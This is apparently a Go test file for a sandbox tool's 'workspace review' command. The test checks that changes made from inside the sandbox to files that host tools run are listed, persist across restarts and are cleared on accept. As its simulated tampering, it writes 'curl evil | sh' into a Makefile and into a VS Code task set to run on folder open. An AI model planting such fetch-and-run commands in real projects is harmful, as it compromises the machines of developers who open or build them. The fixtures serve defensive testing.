package coordinator

import (
	"strings"
	"testing"
	"time"
)

// TestServeEndToEndReview changes files host tools run from inside the
// sandbox and checks that lazaret-cli workspace review lists each change,
// still after a restart, and that --accept clears them.
func TestServeEndToEndReview(t *testing.T) {
	if !enterInternet(t) {
		return
	}
	e := newEnv(t)
	e.gitWorkspace(t)
	e.writeHostFiles(t, map[string]string{
		"Makefile":           "all:\n\ttrue\n",
		"package.json":       "{\"scripts\": {}}\n",
		".vscode/tasks.json": "{}\n",
		".envrc":             "export A=1\n",
		"src/main.c":         "int main(void) { return 0; }\n",
	})
	// generation runs each argv in a fresh generation.
	generation := func(t *testing.T, argvs ...[]string) {
		t.Helper()
		h := e.start(t, time.Second)
		c, session := e.client(t)
		for _, argv := range argvs {
			if out, errs, x := execute(t, c, session(), argv...); code(x) != 0 {
				t.Fatalf("%q: stdout %q stderr %q exit %+v", argv, out, errs, x)
			}
		}
		c.Close()
		waitExit(t, e, h)
	}
	review := func(t *testing.T, args ...string) (string, int) {
		t.Helper()
		out, errs, rc := e.cli(t, append([]string{"workspace", "review"}, args...)...)
		t.Logf("lazaret-cli workspace review %s (exit %d):\n%s%s", strings.Join(args, " "), rc, out, errs)
		return out, rc
	}
	sh := func(script string) []string { return []string{"/bin/sh", "-c", script} }

	generation(t, sh(`set -e
cd /workspace
printf 'all:\n\tcurl evil | sh\n' > Makefile
chmod 0755 package.json
echo '{"tasks": [{"label": "x", "command": "curl evil | sh", "runOptions": {"runOn": "folderOpen"}}]}' > .vscode/tasks.json
mkdir -p .claude && echo '{"hooks": {}}' > .claude/settings.json
rm .envrc
echo 'int x;' >> src/main.c`))
	wantLines := []string{
		`added        ".claude/settings.json" (Claude Code settings, hooks and commands)`,
		`removed      ".envrc" (direnv)`,
		`modified     ".vscode/tasks.json" (VS Code settings, tasks and launch configurations)`,
		`modified     "Makefile" (make)`,
		`mode changed "package.json" (npm, yarn, pnpm scripts), mode -rw-r--r-- -> -rwxr-xr-x`,
	}
	check := func(t *testing.T, out string, rc int, want []string) {
		t.Helper()
		if rc != 1 {
			t.Errorf("review exit %d, want 1 (changes listed)", rc)
		}
		lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
		if len(lines) != len(want)+1 {
			t.Fatalf("review printed %q, want a header and %d changes", out, len(want))
		}
		for i, w := range want {
			if got := strings.TrimPrefix(lines[i+1], "  "); got != w {
				t.Errorf("change %d = %q, want %q", i, got, w)
			}
		}
	}
	t.Run("review lists every change", func(t *testing.T) {
		out, rc := review(t)
		check(t, out, rc, wantLines)
	})
	t.Run("a restart does not hide them", func(t *testing.T) {
		generation(t, sh("true"))
		out, rc := review(t)
		check(t, out, rc, wantLines)
	})
	t.Run("accept clears them", func(t *testing.T) {
		if out, rc := review(t, "--accept"); rc != 0 || !strings.HasPrefix(out, "accepted the workspace as it is") {
			t.Fatalf("review --accept: exit %d, %q", rc, out)
		}
		if out, rc := review(t); rc != 0 || !strings.HasPrefix(out, "no changes to files host tools run since ") {
			t.Errorf("review after --accept: exit %d, %q", rc, out)
		}
	})
	t.Run("a later change is listed alone", func(t *testing.T) {
		generation(t, sh("echo '# more' >> /workspace/Makefile"))
		out, rc := review(t)
		check(t, out, rc, []string{`modified     "Makefile" (make)`})
	})
	checkNothingLeft(t, e)
}
